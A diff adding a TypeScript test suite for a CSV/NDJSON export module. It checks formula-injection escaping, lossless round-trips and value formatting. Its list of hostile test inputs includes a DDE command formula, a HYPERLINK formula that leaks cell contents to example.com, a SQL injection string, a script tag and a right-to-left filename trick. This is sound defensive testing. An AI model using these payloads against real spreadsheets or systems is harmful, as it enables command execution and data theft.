@@ -1,0 +1,103 @@
+import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { type ExportRow, formulaSafe, toCsv, toNdjson } from './export.ts';
+
+async function textOf(pieces: AsyncIterable<string>): Promise<string> {
+  let text = '';
+  for await (const piece of pieces) text += piece;
+  return text;
+}
+const csvOf = (rows: readonly ExportRow[], columns: readonly string[]) => textOf(toCsv(rows, columns));
+
+/** Texts that have broken spreadsheets, parsers and terminals. */
+const naughty = [
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://example.com?"&A1,"Click")',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '  =1+1',
+  '\u00a0=1+1',
+  '\ufeff=1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+  '"=1+1"',
+  'a,=1+1',
+  'a;=1+1',
+  "'; drop table customer; --",
+  '<script>alert(1)</script>',
+  '\u202etxt.exe',
+  'ʼ',
+  '田中さん',
+  '👩‍👩‍👧',
+  '\u001b[31m',
+  'line one\r\nline two',
+  '""',
+  '',
+];
+
+describe('an exported CSV file', () => {
+  test.each(naughty)('has no formula for %j and loses nothing of it', async (value) => {
+    const [, [cell = ''] = []] = parse(await csvOf([{ note: value }], ['note']));
+    expect(cell.replace(/^\s+/u, '')).not.toMatch(/^[=+\-@＝＋－＠]/u);
+    expect(cell).not.toMatch(/^[\t\r\n]/);
+    expect([value, `'${value}`]).toContain(cell);
+  });
+
+  test('never begins a text as a formula, and reads back', async () => {
+    const text = fc.oneof(fc.string({ unit: 'grapheme' }), fc.constantFrom(...naughty));
+    await fc.assert(
+      fc.asyncProperty(fc.array(fc.tuple(text, text)), async (rows) => {
+        const csv = await csvOf(
+          rows.map(([a, b]) => ({ a, b })),
+          ['a', 'b'],
+        );
+        expect(parse(csv)).toEqual([['a', 'b'], ...rows.map((row) => row.map(formulaSafe))]);
+      }),
+    );
+  });
+
+  test('has the columns asked for, numbers bare and instants in ISO 8601', async () => {
+    const rows = [
+      { n: -5, big: 2n ** 60n, is: false, at: new Date(0), none: null, list: ['a', 'b'], secret: 'x' },
+      { n: 1.5, text: '' },
+    ];
+    expect(await csvOf(rows, ['n', 'big', 'is', 'at', 'none', 'list', 'text'])).toBe(
+      '"n","big","is","at","none","list","text"\n' +
+        '-5,1152921504606846976,"false","1970-01-01T00:00:00.000Z",,"[""a"",""b""]",\n' +
+        '1.5,,,,,,""\n',
+    );
+  });
+
+  test('has its header even where there are no rows, and pieces of whole lines where there are many', async () => {
+    expect(await csvOf([], ['a', '=b'])).toBe('"a","\'=b"\n');
+    const pieces: string[] = [];
+    const numbers = Array.from({ length: 1_001 }, (_, n) => ({ n }));
+    for await (const piece of toCsv(numbers, ['n'])) pieces.push(piece);
+    expect(pieces.length).toBe(4);
+    expect(pieces.every((piece) => piece.endsWith('\n'))).toBe(true);
+  });
+});
+
+describe('an exported NDJSON file', () => {
+  test('has one object a line and every value as it is', async () => {
+    await fc.assert(
+      fc.asyncProperty(
+        fc.array(fc.record({ a: fc.string({ unit: 'grapheme' }), b: fc.integer() })),
+        async (rows) => {
+          const lines = (await textOf(toNdjson(rows))).split('\n').slice(0, -1);
+          expect(lines.map((line): unknown => JSON.parse(line))).toEqual(rows);
+        },
+      ),
+    );
+    expect(await textOf(toNdjson([{ n: 2n ** 60n, at: new Date(0), text: '=1\n' }]))).toBe(
+      '{"n":"1152921504606846976","at":"1970-01-01T00:00:00.000Z","text":"=1\\n"}\n',
+    );
+  });
+});
